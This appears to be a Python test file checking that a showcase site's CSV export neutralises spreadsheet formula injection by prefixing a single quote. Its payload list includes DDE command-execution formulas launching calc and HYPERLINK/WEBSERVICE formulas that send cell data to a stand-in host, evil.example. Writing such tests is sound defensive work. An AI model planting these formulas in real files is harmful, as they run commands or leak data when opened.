"""CSV cells a spreadsheet would run as a formula are neutralised (OWASP: a leading ').

Every spelling below goes into every free-text column of the CSV through a real model; the
file is parsed back with the csv module and each cell is judged by an oracle written
independently of `spreadsheet_safe`.
"""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from showcase.render.clock import build_stamp
from showcase.render.exports import CSV_COLUMNS, open_data_files, spreadsheet_safe
from showcase.render.open_data_page import render_open_data_page
from tests.factories import make_model, make_project

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    '=WEBSERVICE("http://evil.example/")',
    "==1",
    "=+1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "--1",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\rplain",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "    +1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "\u2003@SUM(1)",
    "\u202f-1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2060+1",
    " \u200b \u3000=1+1",
    "\x0b=1",
    "\x0c@x",
    "\x1c=1",
    "\u2028=1",
    "-1e5",
    "+86 138 0000 0000",
]
"""Cells that must get a leading single quote."""

PLAIN = [
    "纺织学院",
    "智能纱线传感器",
    "a=1+1",
    "team@example.edu.cn",
    "https://example.com/?a=1",
    "1200",
    "-5",
    "+5",
    "3.14",
    "-0.5",
    "2024-03",
    "",
    "'=already quoted",
    "１＝１",
    "（=1）",
]
"""Cells a spreadsheet shows as they are, so they stay unchanged (numbers stay numbers)."""

_STARTS = set("=+-@\t\r\n\x00") | set("＝＋－＠")
_INVISIBLE = {"\u200b", "\u200c", "\u200d", "\u2060", "\ufeff"}


def runs_as_formula(cell: str) -> bool:
    """The oracle: a cell whose first visible character starts a formula, unless it is
    a plain decimal number."""
    if cell[:1] in _STARTS:
        try:
            float(cell)
            return not all(c in "+-.0123456789" for c in cell)
        except ValueError:
            return True
    index = 0
    while index < len(cell) and (cell[index].isspace() or cell[index] in _INVISIBLE):
        index += 1
    return cell[index : index + 1] in _STARTS


def csv_rows(model) -> list[dict[str, str]]:
    raw = open_data_files(model, build_stamp(model, ""))["data/projects.csv"].decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(raw, newline="")))


def model_saying(text: str):
    """One project and its registries all carrying `text` in every free-text CSV column."""
    model = make_model([make_project(name=text or "空", summary=text, started="2024-03")])
    model.colleges = {
        key: dataclasses.replace(college, name=text) for key, college in model.colleges.items()
    }
    model.mentors = {
        key: dataclasses.replace(mentor, name=text) for key, mentor in model.mentors.items()
    }
    model.fields = {
        key: dataclasses.replace(field, name=text) for key, field in model.fields.items()
    }
    return model


def text_cells(model) -> dict[str, str]:
    """The free-text columns as the model holds them (it may trim the project's text)."""
    (project,) = model.projects.values()
    return {
        "项目名称": project.name,
        "简介": project.summary,
        "学院": model.colleges[project.college].name,
        "行业领域": "、".join(model.fields[f].name for f in project.fields),
        "创业导师": "、".join(model.mentors[m].name for m in project.mentors),
    }


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_formula_in_any_text_column_reads_back_quoted(payload: str) -> None:
    model = model_saying(payload)
    (row,) = csv_rows(model)
    for column, value in text_cells(model).items():
        assert row[column] == ("'" + value if runs_as_formula(value) else value), column
    assert row["学院"] == "'" + payload
    assert not any(runs_as_formula(cell) for cell in row.values()), row


@pytest.mark.parametrize("payload", PLAIN)
def test_plain_text_and_numbers_are_left_as_they_are(payload: str) -> None:
    (row,) = csv_rows(model_saying(payload))
    assert row["简介"] == payload and row["学院"] == payload
    assert not any(runs_as_formula(cell) for cell in row.values()), row


def test_every_payload_is_caught_by_the_oracle_too() -> None:
    """The oracle agrees with the lists, so the tests above can fail."""
    assert all(runs_as_formula(p) for p in FORMULAS)
    assert not any(runs_as_formula(p) for p in PLAIN)


def test_counts_and_amounts_stay_numbers() -> None:
    model = make_model(count=4)
    rows = csv_rows(model)
    assert rows[0]["融资与合同金额（元）"] == "500000"
    assert all(
        row["公开姓名的成员数"].isdigit()
        and row["未公开姓名的成员数"].isdigit()
        and row["成果数"].isdigit()
        for row in rows
    )
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(0) == 0


@settings(max_examples=400, deadline=None)
@given(st.text(max_size=12))
def test_any_text_is_either_unchanged_and_harmless_or_quoted(text: str) -> None:
    safe = spreadsheet_safe(text)
    assert safe == text or safe == "'" + text
    assert not runs_as_formula(safe)
    assert (safe != text) == runs_as_formula(text)


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(sorted(_STARTS)), st.text(max_size=8))
def test_any_formula_start_behind_any_blanks_is_quoted(start: str, rest: str) -> None:
    for blanks in ("", " ", "\u3000", "\u00a0 ", "\u200b", "\t"):
        cell = blanks + start + rest
        assert spreadsheet_safe(cell) in (cell, "'" + cell)
        if not runs_as_formula(cell):
            continue
        assert spreadsheet_safe(cell) == "'" + cell


def test_the_open_data_page_says_how_cells_are_neutralised() -> None:
    page = render_open_data_page(make_model(count=1))
    assert "CSV 注入" in page and "英文单引号" in page
    for sign in ("=", "+", "-", "@", "＝", "＠"):
        assert f"<code>{sign}</code>" in page
    assert [header for _, header in CSV_COLUMNS][1] == "项目名称"
